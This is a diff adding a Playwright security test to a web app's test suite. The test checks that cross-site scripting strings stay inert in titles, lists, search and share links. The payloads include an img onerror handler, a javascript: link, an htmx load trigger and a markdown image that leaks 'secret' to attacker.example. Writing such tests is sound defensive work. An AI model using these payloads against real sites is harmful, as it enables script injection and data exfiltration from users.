@@ -86,3 +86,33 @@ def test_share_open_logged_out_revoke_and_continue_as_someone_else(
     assert response is not None and response.status == 404
     stranger.context.close()
     bob.context.close()
+
+
+ATTACK = (
+    "<img src=x onerror=alert(1)> [x](javascript:alert(1)) "
+    "![x](https://attacker.example/p.png?q=secret) "
+    '<div hx-get="/" hx-trigger="load">'
+)
+
+
+def test_attack_strings_stay_inert_everywhere(page: Page, base: str) -> None:
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    sign_up(page, base, "alice")
+    _answered(page, ATTACK)
+    expect(page).to_have_title(re.compile(re.escape("<img src=x onerror=alert(1)>")))
+    expect(page.get_by_role("article", name="You")).to_contain_text("<img src=x onerror=alert(1)>")
+    for where in (f"{base}/c/", f"{base}/c/?q=onerror"):
+        page.goto(where)
+        expect(page.locator("main")).to_contain_text("<img src=x onerror=alert(1)>")
+    page.go_back()
+    page.goto(f"{base}/")
+    page.goto(f"{base}/c/")
+    page.locator("main a.row-title").first.click()
+    page.get_by_role("link", name="Share", exact=True).click()
+    page.get_by_role("button", name="Create share link").click()
+    page.goto(page.locator(".share-url").first.inner_text().strip())
+    expect(page.locator("main")).to_contain_text("<img src=x onerror=alert(1)>")
+    assert page.locator("main img").count() == 0
+    assert dialogs == []
+    # The page fixture fails the test if any request left for another host.
